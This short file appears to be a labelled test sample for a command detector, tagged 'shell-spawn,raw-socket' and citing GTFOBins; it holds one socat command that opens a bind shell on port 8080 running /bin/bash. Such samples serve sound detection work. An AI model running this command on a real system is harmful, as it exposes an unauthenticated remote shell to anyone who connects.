# expect: shell-spawn,raw-socket
# source: GTFOBins socat
# technique: socat TCP-LISTEN with EXEC:/bin/bash (bind shell)
socat TCP-LISTEN:8080,reuseaddr,fork EXEC:/bin/bash
